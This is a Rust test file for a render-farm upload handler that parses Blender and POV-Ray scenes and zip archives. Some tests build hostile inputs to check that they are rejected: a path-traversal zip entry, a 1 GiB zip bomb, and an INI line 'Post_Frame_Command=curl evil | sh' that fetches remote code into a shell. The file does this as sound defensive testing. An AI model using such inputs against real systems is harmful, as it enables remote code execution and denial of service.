//! [`prepare`] end to end, with real `.blend` files written by Blender itself.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use idlefarm_protocol::{ImageFormat, InputKind, Renderer};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::*;

/// Asks Blender to save its default scene at 64×36, frames 1-24, after running `extra`
/// (Python, at column 0, with `bpy` and `scene` in scope).
pub(super) async fn make_blend(path: &Path, extra: &str) {
    let target = serde_json::to_string(path.to_str().unwrap()).unwrap();
    let script = [
        "import bpy",
        "scene = bpy.context.scene",
        "scene.render.resolution_x = 64",
        "scene.render.resolution_y = 36",
        "scene.render.resolution_percentage = 100",
        "scene.frame_start = 1",
        "scene.frame_end = 24",
        extra,
        &format!("bpy.ops.wm.save_as_mainfile(filepath={target})"),
    ]
    .join("\n");
    let home = path.parent().unwrap();
    let status = tokio::process::Command::new("blender")
        .args(["-b", "--factory-startup", "--python-expr", &script])
        .env("HOME", home)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .await
        .expect("blender must be installed to run these tests");
    assert!(
        status.success() && path.is_file(),
        "Blender did not write {}",
        path.display()
    );
}

/// A scratch folder holding one upload, stored under a server-chosen name.
pub(super) struct Scratch {
    _dir: tempfile::TempDir,
    pub(super) path: PathBuf,
    uploads: std::cell::Cell<usize>,
}

impl Scratch {
    pub(super) fn new() -> Scratch {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().to_path_buf();
        Scratch {
            _dir: dir,
            path,
            uploads: std::cell::Cell::new(0),
        }
    }

    /// Stores `bytes` as an upload the browser called `file_name`.
    pub(super) fn file(&self, file_name: &str, bytes: &[u8]) -> UploadedFile {
        self.uploads.set(self.uploads.get() + 1);
        let path = self.path.join(format!("upload-{}", self.uploads.get()));
        std::fs::write(&path, bytes).unwrap();
        UploadedFile {
            file_name: file_name.into(),
            path,
        }
    }

    pub(super) async fn prepare(
        &self,
        file: UploadedFile,
        fields: SubmitFields,
    ) -> Result<Prepared, ApiError> {
        let upload = Upload {
            file,
            ini: None,
            fields,
        };
        prepare(upload, &self.path, &Tools::default()).await
    }
}

pub(super) fn zip_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in files {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(data).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn frames(text: &str) -> SubmitFields {
    SubmitFields {
        frames: Some(text.into()),
        ..SubmitFields::default()
    }
}

#[tokio::test]
async fn reads_the_scene_settings_from_a_blend() {
    let scratch = Scratch::new();
    let blend = scratch.path.join("made.blend");
    make_blend(&blend, "").await;
    let file = scratch.file("my shot.blend", &std::fs::read(&blend).unwrap());

    let prepared = scratch
        .prepare(file.clone(), SubmitFields::default())
        .await
        .unwrap();
    assert_eq!(prepared.input, file.path);
    assert_eq!(prepared.input_kind, InputKind::File);
    assert_eq!(prepared.input_name, "my_shot.blend");
    assert_eq!(prepared.name, "my shot.blend");
    assert_eq!(prepared.chunk_size, None);
    assert!(prepared.warnings.is_empty(), "{:?}", prepared.warnings);
    let s = &prepared.settings;
    assert_eq!(s.renderer, Renderer::Blender);
    assert_eq!(s.main_file, "my_shot.blend");
    assert_eq!(s.scene.as_deref(), Some("Scene"));
    assert_eq!((s.frame_start, s.frame_end, s.frame_step), (1, 24, 1));
    assert_eq!(
        (s.resolution_x, s.resolution_y, s.percentage),
        (64, 36, 100)
    );
    assert_eq!(s.fps, 24.0);
    assert_eq!(s.format, ImageFormat::Png);
    assert!(s.engine.is_some());
    assert_eq!(s.povray, None);
}

#[tokio::test]
async fn the_form_overrides_the_blend() {
    let scratch = Scratch::new();
    let blend = scratch.path.join("made.blend");
    make_blend(
        &blend,
        "scene.render.image_settings.file_format = 'OPEN_EXR'",
    )
    .await;
    let file = scratch.file("shot.blend", &std::fs::read(&blend).unwrap());

    let defaults = scratch
        .prepare(file.clone(), SubmitFields::default())
        .await
        .unwrap();
    assert_eq!(defaults.settings.format, ImageFormat::Png);
    assert_eq!(
        defaults.warnings,
        ["the scene's output format OPEN_EXR was replaced by PNG"]
    );

    let fields = SubmitFields {
        frames: Some(" 2 - 10 : 2 ".into()),
        chunk: Some("3".into()),
        name: Some("Ball test".into()),
        fps: Some("30".into()),
        format: Some("jpeg".into()),
        ..SubmitFields::default()
    };
    let prepared = scratch.prepare(file, fields).await.unwrap();
    let s = &prepared.settings;
    assert_eq!((s.frame_start, s.frame_end, s.frame_step), (2, 10, 2));
    assert_eq!((s.fps, s.format), (30.0, ImageFormat::Jpeg));
    assert_eq!(
        (prepared.name.as_str(), prepared.chunk_size),
        ("Ball test", Some(3))
    );
    assert!(prepared.warnings.is_empty(), "{:?}", prepared.warnings);
}

#[tokio::test]
async fn refuses_a_text_file_named_blend() {
    let scratch = Scratch::new();
    let file = scratch.file("notes.blend", b"these are my notes\n");
    let err = scratch
        .prepare(file, SubmitFields::default())
        .await
        .unwrap_err();
    assert_eq!(err.status, 400);
    assert_eq!(err.message, "notes.blend is not a Blender file");
}

#[tokio::test]
async fn refuses_a_truncated_blend_with_blenders_reason() {
    let scratch = Scratch::new();
    let blend = scratch.path.join("made.blend");
    make_blend(&blend, "").await;
    let bytes = std::fs::read(&blend).unwrap();
    let file = scratch.file("cut.blend", &bytes[..1000]);

    let err = scratch
        .prepare(file, SubmitFields::default())
        .await
        .unwrap_err();
    assert_eq!(err.status, 400);
    assert!(
        err.message
            .starts_with("cut.blend could not be opened by Blender: "),
        "{}",
        err.message
    );
    assert!(err.message.contains("'cut.blend'"), "{}", err.message);
    assert!(
        !err.message.contains(&scratch.path.display().to_string()),
        "{}",
        err.message
    );
}

#[tokio::test]
async fn refuses_an_unknown_scene() {
    let scratch = Scratch::new();
    let blend = scratch.path.join("made.blend");
    make_blend(&blend, "bpy.data.scenes.new('Other')").await;
    let file = scratch.file("shot.blend", &std::fs::read(&blend).unwrap());

    let fields = SubmitFields {
        scene: Some("Foo".into()),
        ..SubmitFields::default()
    };
    let err = scratch.prepare(file.clone(), fields).await.unwrap_err();
    assert_eq!(err.status, 422);
    assert_eq!(
        err.message,
        "scene \"Foo\" is not in shot.blend (it has: Other, Scene)"
    );

    let fields = SubmitFields {
        scene: Some("Other".into()),
        ..SubmitFields::default()
    };
    let prepared = scratch.prepare(file, fields).await.unwrap();
    assert_eq!(prepared.settings.scene.as_deref(), Some("Other"));
}

#[tokio::test]
async fn refuses_frames_outside_the_scene() {
    let scratch = Scratch::new();
    let blend = scratch.path.join("made.blend");
    make_blend(&blend, "").await;
    let file = scratch.file("shot.blend", &std::fs::read(&blend).unwrap());

    let err = scratch.prepare(file, frames("1-400")).await.unwrap_err();
    assert_eq!(err.status, 422);
    assert_eq!(err.message, "frame range 1-400 is outside the scene's 1-24");
}

#[tokio::test]
async fn inspects_the_main_blend_of_a_zip_and_warns_about_missing_textures() {
    let scratch = Scratch::new();
    let blend = scratch.path.join("made.blend");
    let extra = "for name in ('wood', 'gone'):\n    \
                 img = bpy.data.images.new(name, 4, 4)\n    \
                 img.source = 'FILE'\n    \
                 img.filepath = '//textures/' + name + '.png'\n    \
                 img.use_fake_user = True";
    make_blend(&blend, extra).await;
    let zip = zip_bytes(&[
        ("shots/shot.blend", &std::fs::read(&blend).unwrap()),
        ("shots/shot.blend1", b"an old backup"),
        ("shots/textures/wood.png", b"not really a png"),
    ]);
    let file = scratch.file("project.zip", &zip);

    let prepared = scratch
        .prepare(file, SubmitFields::default())
        .await
        .unwrap();
    assert_eq!(prepared.input_kind, InputKind::Zip);
    assert_eq!(prepared.input_name, "project.zip");
    assert_eq!(prepared.settings.main_file, "shots/shot.blend");
    assert_eq!(
        (prepared.settings.frame_start, prepared.settings.frame_end),
        (1, 24)
    );
    assert_eq!(
        prepared.warnings,
        [
            "missing external file: //textures/gone.png (referenced by the scene but not in the upload)"
        ]
    );
}

#[tokio::test]
async fn a_zip_with_several_blends_needs_the_main_field() {
    let scratch = Scratch::new();
    let zip = zip_bytes(&[("a.blend", b"BLENDER-v304"), ("b/c.blend", b"BLENDER-v304")]);
    let file = scratch.file("project.zip", &zip);
    let err = scratch
        .prepare(file.clone(), SubmitFields::default())
        .await
        .unwrap_err();
    assert_eq!(err.status, 422);
    assert_eq!(
        err.message,
        "the zip holds several .blend files (a.blend, b/c.blend); choose one scene to render its animation with `main` (--main PATH), or render them as a sequence, one file per frame in name order, with `sequence` (--sequence)"
    );

    let fields = SubmitFields {
        main: Some("d.blend".into()),
        ..SubmitFields::default()
    };
    let err = scratch.prepare(file, fields).await.unwrap_err();
    assert_eq!(err.status, 422);
    assert!(
        err.message.contains("(it has: a.blend, b/c.blend)"),
        "{}",
        err.message
    );
}

#[tokio::test]
async fn refuses_a_zip_that_climbs_out_of_its_folder() {
    let scratch = Scratch::new();
    let zip = zip_bytes(&[
        ("scene.pov", b"sphere { 0, 1 }"),
        ("../evil.pov", b"sphere { 0, 1 }"),
    ]);
    let file = scratch.file("project.zip", &zip);
    let err = scratch
        .prepare(file, SubmitFields::default())
        .await
        .unwrap_err();
    assert_eq!(err.status, 400);
    assert!(
        err.message
            .starts_with("project.zip: entry \"../evil.pov\""),
        "{}",
        err.message
    );
    assert!(!scratch.path.join("project").exists());
}

#[tokio::test]
async fn a_zip_that_unpacks_too_large_is_413() {
    let scratch = Scratch::new();
    let zip = zip_bytes(&[("scene.pov", &[b' '; 4096])]);
    let file = scratch.file("project.zip", &zip);
    let upload = Upload {
        file,
        ini: None,
        fields: SubmitFields::default(),
    };
    let tools = Tools {
        max_unpacked_bytes: 1000,
        ..Tools::default()
    };
    let err = prepare(upload, &scratch.path, &tools).await.unwrap_err();
    assert_eq!(err.status, 413);
}

#[tokio::test]
async fn a_zip_bomb_is_413_naming_its_entry_and_nothing_is_unpacked() {
    let scratch = Scratch::new();
    // 1 GiB of zeros streamed through the compressor: about 1 MB on disk.
    let path = scratch.path.join("upload-bomb");
    let mut zip = ZipWriter::new(std::fs::File::create(&path).unwrap());
    zip.start_file("scene.pov", SimpleFileOptions::default())
        .unwrap();
    zip.write_all(b"sphere { 0, 1 }").unwrap();
    zip.start_file("textures/wall.png", SimpleFileOptions::default())
        .unwrap();
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        zip.write_all(&zeros).unwrap();
    }
    zip.finish().unwrap();
    assert!(std::fs::metadata(&path).unwrap().len() < 4 << 20);
    let upload = Upload {
        file: UploadedFile {
            file_name: "bomb.zip".into(),
            path,
        },
        ini: None,
        fields: SubmitFields::default(),
    };
    let err = prepare(upload, &scratch.path, &Tools::default())
        .await
        .unwrap_err();
    assert_eq!(err.status, 413);
    assert!(
        err.message
            .starts_with("bomb.zip: entry \"textures/wall.png\" unpacks to 1 GiB from ")
            && err.message.contains("at most 100:1"),
        "{}",
        err.message
    );
    assert!(!scratch.path.join("project").exists());
}

#[tokio::test]
async fn a_pov_with_an_ini_takes_its_animation() {
    let scratch = Scratch::new();
    let file = scratch.file("ball.pov", b"sphere { 0, 1 pigment { rgb clock } }");
    let ini = scratch.file(
        "ball-anim.ini",
        b"+W64 +H36\nInitial_Frame=1\nFinal_Frame=24\nAntialias=on\n",
    );
    let upload = Upload {
        file,
        ini: Some(ini.clone()),
        fields: frames("5-8"),
    };
    let prepared = prepare(upload, &scratch.path, &Tools::default())
        .await
        .unwrap();
    let s = &prepared.settings;
    assert_eq!(
        (s.renderer, s.main_file.as_str()),
        (Renderer::Povray, "ball.pov")
    );
    assert_eq!((s.frame_start, s.frame_end, s.frame_step), (5, 8, 1));
    assert_eq!((s.resolution_x, s.resolution_y), (64, 36));
    let pov = s.povray.as_ref().unwrap();
    assert_eq!(
        (pov.initial_frame, pov.final_frame, pov.antialias),
        (1, 24, true)
    );

    let file = scratch.file("ball.pov", b"sphere { 0, 1 }");
    let bad_ini = scratch.file("bad.ini", b"Width=64\nPost_Frame_Command=curl evil | sh\n");
    let upload = Upload {
        file,
        ini: Some(bad_ini),
        fields: SubmitFields::default(),
    };
    let err = prepare(upload, &scratch.path, &Tools::default())
        .await
        .unwrap_err();
    assert_eq!(err.status, 400);
    assert_eq!(
        err.message,
        "bad.ini: line 2: Post_Frame_Command runs shell commands, which idlefarm does not allow; remove it"
    );
}

#[tokio::test]
async fn a_pov_zip_finds_its_scene_through_the_ini() {
    let scratch = Scratch::new();
    let zip = zip_bytes(&[
        (
            "scenes/ball.pov",
            b"#include \"colors.inc\" sphere { 0, 1 }",
        ),
        ("scenes/cube.pov", b"box { 0, 1 }"),
        (
            "scenes/render.ini",
            b"Input_File_Name=ball.pov\n+W64 +H36 +KFI1 +KFF10 +SF3 +EF6\n",
        ),
        ("scenes/colors.inc", b"#declare Red = rgb <1,0,0>;"),
    ]);
    let file = scratch.file("balls.zip", &zip);
    let prepared = scratch
        .prepare(file, SubmitFields::default())
        .await
        .unwrap();
    let s = &prepared.settings;
    assert_eq!(prepared.input_kind, InputKind::Zip);
    assert_eq!(s.main_file, "scenes/ball.pov");
    assert_eq!((s.frame_start, s.frame_end), (3, 6));
    assert_eq!((s.resolution_x, s.resolution_y), (64, 36));

    let scratch = Scratch::new();
    let file = scratch.file("balls.zip", &zip);
    let err = scratch.prepare(file, frames("1-400")).await.unwrap_err();
    assert_eq!(err.status, 422);
    assert_eq!(
        err.message,
        "frame range 1-400 is outside the animation's 1-10 (Initial_Frame to Final_Frame in scenes/render.ini)"
    );
}

#[tokio::test]
async fn refuses_other_files_empty_uploads_and_binary_scenes() {
    let scratch = Scratch::new();
    let err = scratch
        .prepare(scratch.file("shot.txt", b"hello"), SubmitFields::default())
        .await;
    let err = err.unwrap_err();
    assert_eq!(
        (err.status.as_u16(), err.message.as_str()),
        (400, "shot.txt is not a .blend, .pov or .zip file")
    );

    let err = scratch
        .prepare(scratch.file("ball.pov", b""), SubmitFields::default())
        .await;
    assert_eq!(
        err.unwrap_err().message,
        "the uploaded file ball.pov is empty"
    );

    let err = scratch
        .prepare(
            scratch.file("ball.pov", b"sphere\0\x01"),
            SubmitFields::default(),
        )
        .await;
    assert_eq!(
        err.unwrap_err().message,
        "ball.pov does not look like a POV-Ray scene (it is binary)"
    );

    let zip = zip_bytes(&[("readme.txt", b"hi")]);
    let err = scratch
        .prepare(scratch.file("stuff.zip", &zip), SubmitFields::default())
        .await;
    let err = err.unwrap_err();
    assert_eq!(err.status, 400);
    assert!(
        err.message
            .starts_with("stuff.zip holds no .blend or .pov file"),
        "{}",
        err.message
    );
}

#[tokio::test]
async fn refuses_too_many_frames() {
    let scratch = Scratch::new();
    let err = scratch
        .prepare(scratch.file("ball.pov", b"sphere {}"), frames("1-200000"))
        .await;
    assert_eq!(err.unwrap_err().status, 422);
}
